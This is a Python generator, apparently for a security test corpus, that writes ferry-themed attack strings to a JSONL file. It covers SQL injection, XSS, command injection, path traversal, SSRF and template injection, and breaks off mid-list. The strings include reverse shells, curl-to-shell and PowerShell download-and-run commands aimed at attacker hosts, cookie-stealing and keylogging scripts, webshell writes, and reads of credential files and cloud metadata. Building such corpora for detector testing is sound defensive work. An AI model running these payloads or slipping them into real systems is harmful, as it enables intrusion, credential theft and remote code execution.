#!/usr/bin/env python3
r"""ferryline attack corpus generator (coastal ferry line). Standard library only.

Writes attacks.jsonl next to this file. Every literal below was written by hand
for this theme. Per category, a few extra values come from ONE template that
joins a hand-written ferry-domain prefix to a hand-written payload (no other
computation). Deterministic: random.Random(22202).
"""
import json
import os
import random

SEED = 22202
PREFIX = "hahe"

TARGET = {
    "sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
    "code": 80, "nosqli": 27, "crlf": 30, "ldap-xpath": 20,
}

A = {}
# Template pools: (prefixes, payloads). Output value = prefix + payload,
# class = "<payload class>+prefixed".
T = {}

# ====================================================================== SQLi
A["sqli"] = [
    ("note-union-select", "Cabin note: window please' UNION SELECT username, password_hash FROM staff_users-- "),
    ("search-boolean", "Oban' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- "),
    ("ref-number-boolean", "20931 OR 1=1"),
    ("route-id-union-numeric", "7 UNION SELECT null,table_name,null FROM information_schema.tables"),
    ("reg-mysql-sleep", "AB12 CDE' AND SLEEP(5)-- -"),
    ("search-pg-sleep-stacked", "Craignure'; SELECT pg_sleep(10)--"),
    ("ref-mssql-waitfor", "FL-44012'; WAITFOR DELAY '0:0:7'--"),
    ("search-oracle-error-ctxsys", "Stornoway' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("search-sqlite-union-master", "Mull' UNION SELECT sql,name FROM sqlite_master--"),
    ("search-mysql-comment-as-space", "Barra'/**/UNION/**/SELECT/**/email,pass/**/FROM/**/customers#"),
    ("search-mysql-versioned-comment", "Islay' /*!50000UNION*/ /*!50000SELECT*/ 1,2,@@version-- -"),
    ("search-stacked-drop", "Tiree'; DROP TABLE sailings;--"),
    ("ref-stacked-update-fare", "FL-33019'; UPDATE bookings SET fare_pence=0 WHERE ref='FL-33019';--"),
    ("search-mysql-extractvalue-error", "Coll' AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))-- -"),
    ("plain-mysql-updatexml-error", "' AND updatexml(1,concat(0x3a,database()),1)#"),
    ("search-pg-cast-error", "Arran' AND 1=CAST((SELECT version()) AS int)--"),
    ("plain-mssql-convert-error", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("sort-param-order-by-probe", "departure_time ORDER BY 12-- "),
    ("sort-param-case-blind", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN departure_time ELSE route_id END)"),
    ("search-mysql-blind-ascii-substring", "Lerwick' AND ASCII(SUBSTRING((SELECT pass FROM admins LIMIT 1),1,1))>77-- -"),
    ("sailing-id-mysql-benchmark", "1042 AND BENCHMARK(5000000,MD5('x'))"),
    ("ref-mssql-xp-cmdshell", "FL-10231'; EXEC master..xp_cmdshell 'ping 203.0.113.9';--"),
    ("search-oracle-oob-utl-http", "Kirkwall' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("plain-mssql-oob-xp-dirtree", "'; EXEC master..xp_dirtree '\\\\attacker.example\\x';--"),
    ("search-mysql-load-file", "Uig' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("search-mysql-into-outfile-webshell", "Coll' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("note-pg-copy-to-program", "late arrival'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("search-oracle-concat-pipes", "Oban' || (SELECT banner FROM v$version WHERE rownum=1) || '"),
    ("search-like-always-true", "x%' OR 'a' LIKE 'a"),
    ("search-double-quote-context", "Oban\" OR \"\"=\""),
    ("search-paren-context", "Oban') OR ('x'='x"),
    ("route-id-hex-literal", "0 UNION SELECT 0x61646d696e,2"),
    ("search-char-function", "Barra' UNION SELECT CHAR(97,100,109,105,110),2-- -"),
    ("search-case-mixing", "Uig' uNiOn SeLeCt NuLl,UsEr()-- -"),
    ("search-boolean+urlencode", "Oban%27%20OR%201%3D1--%20"),
    ("search-union+double-urlencode", "Oban%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
    ("login-mysql-hash-comment", "admin'#"),
    ("login-crew-comment-bypass", "crew_admin'-- "),
    ("search-sqlite-randomblob-heavy", "Mull' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("sailing-id-pg-stacked-copy-from", "1042; CREATE TABLE x(t text); COPY x FROM '/etc/passwd';--"),
    ("search-mysql-json-extract", "Islay' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("plain-mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.5;uid=sa;pwd=x','SELECT 1');--"),
    ("search-boolean+fullwidth-quote", "Oban＇ OR 1=1--"),
    ("review-insert-values-breakout", "Great trip'), ('hacker','admin','x')-- -"),
    ("name-update-set-breakout", "Bobby', is_admin=1 WHERE '1'='1"),
    ("limit-param-procedure-analyse", "10 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,version())),1)"),
    ("plain-mssql-having-error", "' HAVING 1=1--"),
    ("search-mssql-group-by-error", "Oban' GROUP BY route_id HAVING 1=1--"),
    ("sailing-id-mysql-if-sleep", "1 AND IF(SUBSTR(@@version,1,1)='8',SLEEP(4),0)"),
    ("search-pg-blind-substr", "Oban' AND SUBSTR((SELECT current_user),1,1)='p'--"),
    ("search-mssql-string-concat", "Barra'+(SELECT TOP 1 name FROM sys.databases)+'"),
    ("search-oracle-dbms-pipe-sleep", "Ullapool' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("search-newline-as-space", "Castlebay'\nUNION\nSELECT\nusername,password\nFROM\nusers--"),
    ("search-tab-as-space", "Barra'\tOR\t1=1#"),
    ("route-id-mysql-float-union", "0.1UNION SELECT user(),2-- -"),
    ("plain-no-space-parens", "'OR(1)=(1)#"),
    ("login-like-password-blind", "captain' AND password LIKE 'a%'-- "),
    ("search-db2-syscat", "Arran' UNION SELECT tabname,1 FROM syscat.tables--"),
    ("search-pg-dollar-quote", "Oban'; SELECT $$x$$||current_setting('is_superuser');--"),
    ("route-id-information-schema-columns", "0 UNION ALL SELECT column_name,table_name FROM information_schema.columns WHERE table_schema=database()"),
    ("manifest-note-stacked-delete", "Eggs — 300 trays'; DELETE FROM manifests WHERE 1=1;--"),
    ("crew-name-apostrophe-union", "O'Neill' UNION SELECT name,passport_no FROM crew-- -"),
    ("search-boolean+%u-encoding", "Oban%u0027%20OR%201%3D1--"),
    ("date-param-mysql-subquery-sleep", "2025-07-01' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -"),
    ("plain-sqlite-load-extension", "'; SELECT load_extension('/tmp/evil.so');--"),
    ("search-h2-create-alias-rce", "Oban'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return c;}'; CALL EXEC('id');--"),
    ("search-oracle-union-all-users", "Kirkwall' UNION SELECT username, NULL FROM all_users--"),
    ("crew-id-numeric-or-true", "4471 or true"),
    ("sailing-id-pg-generate-series-heavy", "1042 AND (SELECT count(*) FROM generate_series(1,30000000))>0"),
    ("reg-mssql-stacked-insert-admin", "KX21 ABB'; INSERT INTO staff_users(login,pw,role) VALUES('ghost','x','admin');--"),
    ("search-oracle-xmltype-error", "Tarbert' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("vessel-code-mysql-rlike-blind", "LSF' AND (SELECT 1 RLIKE (SELECT IF(1=1,0x28,0x31)))-- -"),
]
T["sqli"] = (
    ["Booking note: ", "Search: Oban → Craignure ", "Reg AB12 CDE ", "Manifest line 14: hay bales x 120 "],
    [
        ("union-select", "' UNION SELECT login,pw FROM staff_users-- -"),
        ("boolean", "' OR 'a'='a"),
        ("mysql-sleep", "' AND SLEEP(8)#"),
        ("mssql-waitfor", "'; WAITFOR DELAY '0:0:9'--"),
    ],
)

# ====================================================================== XSS
A["xss"] = [
    ("note-script-cookie-exfil", "Window seat please <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("notice-svg-onload", "Brodick pier <svg onload=alert(1)>"),
    ("attr-dq-breakout-script", "\"><script>alert(1)</script>"),
    ("attr-sq-breakout-autofocus", "' autofocus onfocus=alert(1) x='"),
    ("link-field-javascript-uri", "javascript:alert(document.cookie)"),
    ("link-field-javascript-uri-tab-case", "JaVa\tScRiPt:alert(1)"),
    ("link-field-javascript-uri+entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("review-body-onload", "Great crossing <body onload=alert('xss')>"),
    ("notice-iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("review-details-ontoggle", "<details open ontoggle=alert(1)>Dolphins!</details>"),
    ("chat-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("notice-a-href-javascript", "<a href=\"javascript:alert(1)\">Updated timetable</a>"),
    ("review-script-src-remote", "5 stars <script src=//attacker.example/x.js></script>"),
    ("plain-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("review-math-mtext-link", "<math><mtext><a href=javascript:alert(1)>click</a></mtext></math>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "Oban ferry</title><img src=x onerror=alert(1)>"),
    ("style-breakout", "</style><svg onload=alert(1)>"),
    ("js-sq-string-breakout", "';alert(document.cookie);//"),
    ("js-dq-string-breakout", "\";alert(1);//"),
    ("inline-script-close-breakout", "</script><script>alert(1)</script>"),
    ("js-template-literal-expr", "${alert(document.domain)}"),
    ("angularjs-csti-constructor", "Cabin 5012 {{constructor.constructor('alert(1)')()}}"),
    ("vue2-csti-constructor", "{{_c.constructor('alert(1)')()}}"),
    ("notice-iframe-data-uri-base64", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("object-data-javascript", "<object data=\"javascript:alert(1)\">"),
    ("embed-svg-data-uri", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("notice-form-action-javascript", "<form action=javascript:alert(1)><button>Rebook now</button></form>"),
    ("video-source-onerror", "<video><source onerror=alert(1)>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("notice-marquee-onstart", "<marquee onstart=alert(1)>Delays on Route 7</marquee>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("svg-script-entity-parens", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("img-onerror-backtick-call", "<img src=x onerror=alert`1`>"),
    ("img-onerror-throw-no-parens", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("img-onerror-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("svg-fromcharcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("img-onerror+double-urlencode", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("img-onerror+html-entities-double-decoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("script-js-unicode-escape", "<script>\\u0061lert(1)</script>"),
    ("js-string-hex-escape-eval", "';eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29');//"),
    ("script-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("svg-slash-separator", "<svg/onload=alert(1)>"),
    ("img-newline-separators", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img-unclosed-tag", "<img src=x onerror=alert(1)//"),
    ("nested-tag-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("markdown-link-javascript", "[View timetable](javascript:alert(document.cookie))"),
    ("markdown-image-attr-breakout", "![map](x\" onerror=\"alert(1))"),
    ("notice-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("review-style-import-remote", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("dom-fragment-img", "#<img src=x onerror=alert(1)>"),
    ("jsonp-callback-param", "alert(document.domain)//"),
    ("img-srcset-onerror", "<img srcset=x onerror=alert(1)>"),
    ("div-contenteditable-autofocus", "<div contenteditable autofocus onfocus=alert(1)>x</div>"),
    ("notice-p-onpointerenter", "<p onpointerenter=alert(1)>Sailing 1042 cancelled</p>"),
    ("style-keyframes-onanimationstart", "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>"),
    ("script+fullwidth-nfkc", "＜script＞alert(1)＜/script＞"),
    ("script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("script+%u-encoding", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("onclick-entity-encoded", "<a href=\"#\" onclick=\"&#97;lert(1)\">Rebook</a>"),
    ("javascript-uri-colon-entity", "<a href=\"javascript&colon;alert(1)\">x</a>"),
    ("javascript-uri-newline-entity", "<a href=\"java&#x0A;script:alert(1)\">x</a>"),
    ("svg-a-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>tap</text></a></svg>"),
    ("noscript-title-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("html-comment-breakout", "--><script>alert(1)</script>"),
    ("img-onerror-settimeout-concat", "<img src=x onerror=setTimeout('ale'+'rt(1)')>"),
    ("img-onerror-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("review-stored-keylogger", "Lovely crossing! <script>document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}</script>"),
    ("img-onerror-cookie-beacon", "<img src=x onerror=\"this.src='https://attacker.example/?c='+document.cookie\">"),
    ("crew-name-svg-onload", "Mairi O'Neill<svg/onload=alert(1)>"),
]
T["xss"] = (
    ["Cabin note: ", "Review: great crossing! ", "Notice: 12:40 delayed ", "Crew swap request "],
    [
        ("img-onerror", "<img src=x onerror=alert(1)>"),
        ("svg-onload", "<svg onload=alert(document.cookie)>"),
        ("script-tag", "<script>alert(1)</script>"),
        ("iframe-javascript-src", "<iframe src=javascript:alert(1)>"),
    ],
)

# ====================================================================== command injection
A["cmdi"] = [
    ("filename-semicolon", "manifest_0614.csv; cat /etc/passwd"),
    ("ref-pipe", "FL-20931 | id"),
    ("filename-and-curl-sh", "timetable.pdf && curl http://attacker.example/s.sh | sh"),
    ("plain-or-wget-bash", "x || wget -qO- http://203.0.113.7/p | bash"),
    ("search-backtick", "Oban`id`"),
    ("filename-dollar-paren", "route7$(whoami).pdf"),
    ("filename-newline-nc", "report.csv\nnc 203.0.113.44 4444 -e /bin/sh"),
    ("filename-newline+urlencode", "report.csv%0aid"),
    ("ifs-space-bypass", "x;cat${IFS}/etc/shadow"),
    ("brace-expansion", "x;{cat,/etc/passwd}"),
    ("plain-bash-dev-tcp-revshell", "; bash -i >& /dev/tcp/198.51.100.23/443 0>&1"),
    ("python-revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("photo-name-sleep-blind", "vessel.png; sleep 10 #"),
    ("ping-blind-pipe", "| ping -c 10 127.0.0.1"),
    ("dns-exfil-nslookup", "`nslookup $(whoami).attacker.example`"),
    ("quote-splitting", "; w'h'o'am'i"),
    ("backslash-splitting", "; c\\at /e\\tc/pa\\sswd"),
    ("glob-wildcards", "; /???/c?t /???/p??s??"),
    ("env-substring-slash", ";${PATH:0:1}bin${PATH:0:1}id"),
    ("base64-decode-pipe-sh", "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("printf-hex-subst", "; $(printf '\\x69\\x64')"),
    ("windows-amp-type", "manifest.xlsx & type C:\\Windows\\win.ini"),
    ("windows-pipe-whoami", "rota.xlsx | whoami /all"),
    ("powershell-iex-downloadstring", "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("powershell-encodedcommand", "& powershell -enc dwBoAG8AYQBtAGkA"),
    ("cmd-caret-obfuscation", "& w^h^o^a^m^i"),
    ("windows-certutil-download-exec", "& certutil -urlcache -split -f http://203.0.113.10/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("argument-injection-curl-output", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("argument-injection-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection-find-exec", "-exec sh -c 'id>/tmp/o' ;"),
    ("argument-injection-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("argument-injection-git-upload-pack", "--upload-pack=touch /tmp/pwn"),
    ("argument-injection-zip-unzip-command", "--unzip-command=sh -c 'id' -T"),
    ("argument-injection-sendmail-X-logfile", "ops@ferryline.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("argument-injection-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-injection-rsync-e", "-e 'sh -c id>/tmp/o' x:y"),
    ("imagemagick-pipe-filename", "|curl http://attacker.example/i|sh"),
    ("perl-open-trailing-pipe", "cat /etc/passwd|"),
    ("dq-breakout", "\"; id; echo \""),
    ("sq-breakout", "'; id; echo '"),
    ("process-substitution", "<(curl -s http://attacker.example/x)"),
    ("redirect-write-cron", "; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/x"),
    ("nc-bind-shell", "&& nc -lvp 4444 -e /bin/bash"),
    ("awk-system", "; awk 'BEGIN{system(\"id\")}'"),
    ("env-var-indirection", "; export X=id; $X"),
    ("var-concat-obfuscation", "; a=wh;b=oami;$a$b"),
    ("rev-obfuscation", "; echo 'di' | rev | sh"),
    ("dollar-paren-uname", "$(uname -a)"),
    ("dollar-at-obfuscation", "; wh$@oami"),
    ("question-mark-glob", "; /bin/c?t /etc/p?sswd"),
    ("tab-separator", ";\tcat\t/etc/hosts"),
    ("cmd-set-call-concat", "& set x=who&& call %x%ami"),
    ("powershell-get-content", "; Get-Content C:\\inetpub\\wwwroot\\web.config"),
    ("powershell-subexpression-iwr", "$(Invoke-WebRequest http://attacker.example/?h=$env:COMPUTERNAME)"),
    ("powershell-backtick-obfuscation", "; i`ex (iwr http://203.0.113.12/p.ps1)"),
    ("windows-mshta", "& mshta http://attacker.example/x.hta"),
    ("windows-bitsadmin", "& bitsadmin /transfer j http://203.0.113.4/x.exe C:\\Users\\Public\\x.exe"),
    ("semicolon+urlencode", "manifest.csv%3Bcat%20%2Fetc%2Fpasswd"),
    ("pipe+double-urlencode", "FL-20931%257Cid"),
    ("radio-gateway-host-semicolon", "vhf-gw.ferry.local; cat /etc/passwd"),
    ("brace-base64-pipe", ";{echo,aWQ=}|{base64,-d}|sh"),
    ("nohup-background", "& nohup sh -c 'curl -s attacker.example/b|sh' &"),
    ("backtick-python-os-system", "`python3 -c 'import os;os.system(\"id\")'`"),
    ("mail-exfil", "; mail -s x ops@attacker.example < /etc/passwd"),
]
T["cmdi"] = (
    ["manifest_0614.csv", "crew_rota_W32.xlsx", "vessel_photo.jpg", "timetable_winter.pdf"],
    [
        ("semicolon-id", "; id"),
        ("and-curl-sh", " && curl -s http://attacker.example/r | sh"),
        ("pipe-cat-passwd", " | cat /etc/passwd"),
        ("dollar-paren-sleep", "$(sleep 7)"),
    ],
)

# ====================================================================== path traversal / LFI
A["traversal"] = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("timetable-subdir-dotdot", "timetables/../../../etc/shadow"),
    ("windows-backslash-win-ini", "..\\..\\..\\windows\\win.ini"),
    ("dotdot+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("dotdot+double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("backslash+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("strip-once-bypass", "....//....//....//etc/passwd"),
    ("strip-once-bypass-dot-slash", "..././..././..././etc/passwd"),
    ("absolute-path", "/etc/passwd"),
    ("windows-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("proc-self-environ", "../../../../proc/self/environ"),
    ("log-file-for-poisoning", "../../../var/log/nginx/access.log"),
    ("backslash+urlencode", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("dotdot+%u-encoding", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("manifest-pdf-suffix-dotdot", "manifest_0614.pdf/../../../../etc/hosts"),
    ("null-byte-extension", "../../../../etc/passwd%00.pdf"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("java-web-inf", "../../WEB-INF/web.xml"),
    ("tomcat-semicolon-dotdot", "..;/..;/WEB-INF/web.xml"),
    ("leading-slash-encoded-slash", "/..%2f..%2f..%2fetc/passwd"),
    ("dotdot+fullwidth", "．．／．．／．．／etc/passwd"),
    ("mixed-backslash-slash", "..\\/..\\/..\\/etc/passwd"),
    ("ssh-private-key", "../../../../root/.ssh/id_rsa"),
    ("dotenv", "../../../.env"),
    ("git-config", "../../.git/config"),
    ("uploads-aws-credentials", "uploads/../../../../../home/ops/.aws/credentials"),
    ("absolute-prefix-then-dotdot", "/var/www/ferryline/../../../etc/passwd"),
    ("partial-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd"),
    ("encoded-slash+double-urlencode", "..%252f..%252f..%252fetc%252fpasswd"),
    ("dot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("slash+3byte-overlong-utf8", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("windows-sam", "../../../../../../windows/system32/config/SAM"),
    ("iis-web-config", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("windows-strip-once-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("zip-slip-entry-name", "../../../../var/www/html/shell.php"),
    ("proc-self-cwd", "/proc/self/cwd/config/database.yml"),
    ("sshd-config", "../../../../etc/ssh/sshd_config"),
    ("windows-boot-ini+urlencode", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    ("crew-photo-encoded-slash", "crew_photos/..%2F..%2F..%2Fetc%2Fgroup"),
    ("app-secrets-yml", "../../../../opt/app/config/secrets.yml"),
    ("static-prefix-encoded-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("k8s-serviceaccount-token+urlencode", "..%2F..%2F..%2F..%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
    ("windows+double-urlencode", "..%252F..%252F..%252Fwindows%252Fwin.ini"),
    ("php-zip-wrapper", "zip://uploads/manifest.zip%23../../../../etc/passwd"),
]
T["traversal"] = (
    ["timetables/", "manifests/2025/", "uploads/crew/4471/", "notices/archive/"],
    [
        ("dotdot-passwd", "../../../../../etc/passwd"),
        ("dotdot-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
        ("encoded-dotdot-shadow", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ],
)

# ====================================================================== SSRF (fetched URL)
A["ssrf"] = [
    ("aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-metadata-recursive", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("loopback-admin", "http://127.0.0.1:8080/admin"),
    ("loopback-redis", "http://localhost:6379/"),
    ("gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("loopback-decimal-ip", "http://2130706433/"),
    ("loopback-hex-ip", "http://0x7f000001/"),
    ("loopback-octal-ip", "http://0177.0.0.1/"),
    ("loopback-short-ip", "http://127.1/"),
    ("zero-ip", "http://0/"),
    ("ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("ipv4-mapped-ipv6-imds", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("dns-to-internal", "http://metadata.attacker.example/latest/meta-data/"),
    ("userinfo-confusion", "http://attacker.example@127.0.0.1/"),
    ("fragment-confusion", "http://127.0.0.1#@attacker.example/"),
    ("open-redirect-to-imds", "http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("file-scheme-windows", "file://localhost/c:/windows/win.ini"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("rfc1918-elasticsearch", "http://10.0.0.5:9200/_cat/indices"),
    ("rfc1918-router", "http://192.168.1.1/cgi-bin/luci"),
    ("docker-api", "http://172.17.0.1:2375/containers/json"),
    ("k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-service-name", "http://internal-booking-api:8000/debug/vars"),
    ("timetable-import-userinfo-imds", "https://timetables.partner.example@169.254.169.254/latest/user-data"),
    ("loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①/"),
    ("loopback-hex-dotted", "http://0x7f.0x0.0x0.0x1/"),
    ("loopback-octal-whole", "http://017700000001/"),
    ("port-scan-ssh", "http://127.0.0.1:22/"),
    ("ipv6-full-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("oracle-cloud-metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("jar-scheme-remote", "jar:http://attacker.example/x.jar!/"),
    ("java-netdoc-scheme", "netdoc:///etc/passwd"),
    ("ldap-scheme-loopback", "ldap://127.0.0.1:389/"),
    ("sftp-scheme-attacker", "sftp://attacker.example:11111/"),
    ("tftp-scheme-attacker", "tftp://203.0.113.30:69/x"),
    ("spring-actuator-env", "http://localhost:8080/actuator/env"),
    ("rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("all-zeros-admin", "http://0.0.0.0:5000/admin"),
    ("uppercase-localhost", "http://LOCALHOST/server-status"),
    ("loopback-host+urlencode", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("unc-ntlm-leak", "\\\\203.0.113.20\\share\\timetable.pdf"),
    ("aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("aws-imds-role-name", "http://169.254.169.254/latest/meta-data/iam/security-credentials/ferryline-prod-role"),
    ("etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
]
T["ssrf"] = (
    ["http://127.0.0.1", "http://169.254.169.254", "http://[::1]", "http://10.0.12.4"],
    [
        ("internal-admin-path", "/admin/"),
        ("internal-metadata-path", "/latest/meta-data/"),
        ("internal-status-path", "/server-status"),
    ],
)

# ====================================================================== code injection (SSTI, EL, eval, Log4Shell, proto pollution, CSV, XXE, deser)
A["code"] = [
    ("ssti-jinja2-cycler-popen", "Hello {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-template-reference", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-config-leak", "Notice footer {{ config.items() }}"),
    ("ssti-jinja2-attr-hex-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2-lipsum-globals", "Dear {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("ssti-twig-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("ssti-freemarker-execute-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker-execute-inline", "Sailing ${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("ssti-velocity-runtime", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb-backtick", "<%= `id` %>"),
    ("ssti-erb-system", "Cabin note <%= system('cat /etc/passwd') %>"),
    ("ssti-handlebars-constructor-chain", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
